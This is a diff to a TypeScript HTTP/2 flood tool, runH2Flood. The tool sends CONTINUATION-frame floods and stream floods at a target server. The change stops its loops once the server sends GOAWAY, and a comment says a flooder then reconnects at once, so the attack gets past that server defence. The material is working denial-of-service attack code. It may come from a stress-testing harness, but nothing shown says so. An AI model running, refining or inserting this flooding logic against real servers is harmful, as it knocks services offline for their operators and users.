@@ -113,14 +113,15 @@ export async function runH2Flood(o: H2FloodOptions): Promise<H2FloodResult> {
     const block = requestBlock(url.host, path, [['user-agent', 'h2-flood/1.0']]);
     if (o.kind === 'continuation') {
       c.send(encodeFrame(FRAME.HEADERS, FLAG.END_STREAM, 1, block));
-      for (let i = 0; !c.isClosed; i++) {
+      for (let i = 0; !c.isClosed && !c.goneAway; i++) {
         if (!(await take(1))) return;
         c.send(encodeFrame(FRAME.CONTINUATION, 0, 1, headerBlock([[`x-c${i % 1000}`, 'v']])));
       }
       return;
     }
     const batch = o.kind === 'stream_flood' ? 200 : 20;
-    while (!c.isClosed) {
+    // After a GOAWAY the server takes no new stream: a flooder moves on to a new connection at once.
+    while (!c.isClosed && !c.goneAway) {
       if (!(await take(batch))) return;
       const frames: Buffer[] = [];
       for (let i = 0; i < batch; i++, id += 2) {
@@ -150,7 +151,7 @@ export async function runH2Flood(o: H2FloodOptions): Promise<H2FloodResult> {
       // The server's SETTINGS and the ACK of ours: a conforming start.
       await c.next((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) !== 0, 2000);
       await attack(c);
-      await c.closed(2000);
+      if (!c.goneAway) await c.closed(2000);
       c.close();
       for (const f of c.frames) count(f);
       run.signal.removeEventListener('abort', onAbort);
